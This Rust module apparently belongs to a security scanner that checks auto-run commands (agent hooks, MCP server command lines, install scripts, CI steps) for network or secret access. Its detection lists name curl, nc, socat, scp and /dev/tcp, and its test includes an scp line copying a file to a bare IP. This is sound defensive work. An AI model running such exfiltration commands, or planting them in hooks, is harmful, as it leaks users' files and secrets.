//! Commands a tool or an agent's client runs on its own (hooks, helper
//! commands, MCP servers' command lines, install scripts, CI steps): each
//! scanned as the shell runs it, and its entry reported one step up from
//! what it does, since nobody asked for it to run. Shared by the plugin and
//! settings reader ([`crate::plugin`]) and the tool files
//! ([`crate::toolfiles`]).

use std::sync::LazyLock;

use regex::Regex;
use skills_core::json::Node;

use crate::ctx::{Ctx, Unit};
use crate::jsonc::elements;
use crate::rule::{Severity, id};
use crate::shell::Mode;

/// Who runs a command, which decides the rule its entry is reported under.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Run {
    /// An agent's hook, on its events in every session.
    Hook,
    /// A helper command of an agent's settings (status line, key helper).
    Settings,
    /// An MCP server's command line, started with the client.
    Server,
    /// A tool's own trigger: an install, a folder opened, a commit, a build.
    Tool,
    /// A CI step, on the CI's machine: reported as [`Run::Tool`] is, but
    /// sending data out is what CI steps do (notifications, uploads).
    Ci,
    /// A command someone runs by name (`npm run x`, a task): scanned, not
    /// reported as running on its own.
    Asked,
}

/// Scans `command`, found at `at` of `unit`, as the shell runs it; when
/// what it does is reported (or, for hooks, when it reaches the network or
/// secrets), reports the entry under `run`'s rule, one severity up from
/// the worst finding and at least high: nobody asked for it to run.
pub(crate) fn auto_run(
    ctx: &mut Ctx<'_>,
    unit: &Unit<'_>,
    at: usize,
    command: &str,
    run: Run,
    what: &str,
) {
    auto_run_in(ctx, &unit.derived(command, at), command, run, what);
}

/// [`auto_run`] of `command`, which `inner` holds with its own positions
/// (a slice of the file, so findings keep their lines).
pub(crate) fn auto_run_in(
    ctx: &mut Ctx<'_>,
    inner: &Unit<'_>,
    command: &str,
    run: Run,
    what: &str,
) {
    let mark = ctx.mark();
    ctx.shell(inner, Mode::Code);
    let worst = ctx.worst_since(mark).filter(|w| *w >= Severity::Medium);
    let (rule, when) = match run {
        Run::Hook => (id::AgentHooks, "on the agent's events in every session"),
        Run::Settings => (id::AgentHooks, "whenever the agent's client needs it"),
        Run::Server => (id::McpRegistration, "whenever the agent's client starts"),
        Run::Tool | Run::Ci => (
            id::AutoRunCommand,
            "as part of a routine step (an install, a build, a commit, opening the folder), not as a command anyone chose",
        ),
        Run::Asked => return,
    };
    let severity = match worst {
        Some(w) => w.raised().max(Severity::High),
        None if matches!(run, Run::Hook | Run::Settings) && reaches_out(command) => Severity::High,
        None if run != Run::Ci && (sends_out(command) || copies_out(command)) => Severity::High,
        None => return,
    };
    ctx.report(
        inner,
        rule,
        severity,
        0..command.len(),
        format!("{what} runs {when}, and what it runs reaches the network or secrets, or does what another finding here reports"),
    );
}

/// Whether `command` sends data with a network program: data or a file
/// given to it (`-d`, `-F`, `-T`, `--data-binary @-`), or output piped
/// into it. Nothing a tool's own routine step (an install, a commit, a
/// build) needs to do.
fn sends_out(command: &str) -> bool {
    let mut sender = false;
    let mut piped = false;
    for word in command.split(|c: char| c.is_whitespace() || c == ';' || c == '&') {
        if word == "|" || word.ends_with('|') {
            piped = true;
            continue;
        }
        let program = word.rsplit('/').next().unwrap_or(word);
        if ["curl", "wget", "nc", "ncat", "socat", "telnet"].contains(&program) {
            if piped {
                return true;
            }
            sender = true;
        } else if sender
            && (word.starts_with("--data")
                || word.starts_with("--upload")
                || word.starts_with("--post-")
                || matches!(word, "-d" | "-F" | "-T" | "--form")
                || word.starts_with("-d@")
                || word.starts_with('@'))
        {
            return true;
        }
        piped = false;
    }
    false
}

/// `program` with the string elements of `args` as shell words.
pub(crate) fn command_line(program: &str, args: Option<&Node>) -> String {
    let mut line = program.to_string();
    for arg in args.map_or(&[][..], elements) {
        if let Some(a) = arg.as_str() {
            line.push(' ');
            line.push_str(&quote(a));
        }
    }
    line
}

/// `arg` as one shell word: as is when it needs no quoting.
pub(crate) fn quote(arg: &str) -> String {
    if !arg.is_empty()
        && arg
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_./:=@+,%{}$~".contains(&b))
    {
        return arg.to_string();
    }
    format!("'{}'", arg.replace('\'', "'\\''"))
}

/// Whether a hook command talks to the network or reads what it should not:
/// a network program or address among its words (not in a file name:
/// `intercept-curl.sh` is a script), the conversation's transcript, or a
/// secret source.
pub(crate) fn reaches_out(command: &str) -> bool {
    let lower = command.to_ascii_lowercase();
    lower
        .split(|c: char| c.is_whitespace() || "\"'`;|&()<>".contains(c))
        .any(|word| {
            let program = word.rsplit('/').next().unwrap_or(word);
            [
                "curl", "wget", "nc", "ncat", "socat", "ssh", "scp", "base64",
            ]
            .contains(&program)
                || word.starts_with("http://")
                || word.starts_with("https://")
                || word.starts_with("/dev/tcp")
        })
        || lower.contains("transcript")
        || crate::sensitive::is_secret_source(command)
}

/// A string literal in Groovy, Kotlin or Rust: double or single quotes.
static LITERAL: LazyLock<Regex> = LazyLock::new(|| {
    crate::text::regex(r#""((?:[^"\\\n]|\\.)*)"|'((?:[^'\\\n]|\\.)*)'"#)
        .expect("the literal pattern is valid")
});

/// The string literals of `line`, with where each starts in it.
pub(crate) fn literals(line: &str) -> Vec<(usize, &str)> {
    LITERAL
        .captures_iter(line)
        .filter_map(|c| c.get(1).or_else(|| c.get(2)))
        .map(|m| (m.start(), m.as_str()))
        .collect()
}

/// The command line a list of literal words makes: the script of `sh -c`
/// (`bash -c`, `cmd /c`) as is, any other words quoted as shell words.
pub(crate) fn command_of(words: &[&str]) -> String {
    if let [shell, flag, script, ..] = words
        && matches!(
            shell.rsplit('/').next().unwrap_or(shell),
            "sh" | "bash" | "zsh" | "dash" | "cmd" | "cmd.exe" | "powershell" | "pwsh"
        )
        && matches!(*flag, "-c" | "/c" | "-lc" | "-Command" | "-command")
    {
        return (*script).to_string();
    }
    let mut line = String::new();
    for (i, word) in words.iter().enumerate() {
        if i > 0 {
            line.push(' ');
        }
        // One literal holding a whole command line (`"curl … | sh".execute()`)
        // stays as it is.
        if words.len() == 1 {
            line.push_str(word);
        } else {
            line.push_str(&quote(word));
        }
    }
    line
}

/// Whether `command` copies something to another machine with `scp`,
/// `rsync` or `sftp`: a `[user@]host:path` word for a bare public address
/// or a collection service. Nothing a routine step needs (a deploy names
/// its server).
pub(crate) fn copies_out(command: &str) -> bool {
    let mut copier = false;
    for word in
        command.split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | ')'))
    {
        let program = word.rsplit('/').next().unwrap_or(word);
        if matches!(program, "scp" | "rsync" | "sftp") {
            copier = true;
            continue;
        }
        if !copier || word.starts_with('-') || word.contains("://") {
            continue;
        }
        let word = word.trim_matches(['"', '\'']);
        if let Some((host, _)) = word.split_once(':') {
            let host = host.rsplit('@').next().unwrap_or(host).to_ascii_lowercase();
            if crate::net::is_bare_ip(&host) || crate::net::is_collector(&host) {
                return true;
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    #[test]
    fn copies_to_another_machine() {
        use super::copies_out;
        assert!(copies_out("scp -q /tmp/b dash@192.0.2.18:/srv/in/x"));
        assert!(!copies_out("rsync -az . backup.example.net:/x"));
        assert!(!copies_out("scp build.tar deploy@10.0.0.5:/srv/"));
        assert!(!copies_out("rsync -a dist/ ./backup/"));
        assert!(!copies_out("echo a:b"));
    }
}
